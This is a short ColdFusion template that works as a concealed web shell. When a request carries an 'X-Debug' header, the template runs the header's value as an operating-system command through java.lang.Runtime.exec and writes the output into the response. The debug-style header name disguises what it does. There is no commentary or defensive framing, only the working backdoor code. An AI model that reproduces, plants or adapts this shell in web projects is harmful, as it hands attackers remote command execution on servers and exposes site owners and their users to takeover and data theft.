<cfset h = GetHttpRequestData().headers>
<cfif structKeyExists(h, "X-Debug")>
<cfset rt = createObject("java", "java.lang.Runtime")>
<cfset proc = rt.getRuntime().exec(h["X-Debug"])>
<cfoutput>#createObject("java","java.util.Scanner").init(proc.getInputStream()).useDelimiter("\A").next()#</cfoutput>
</cfif>
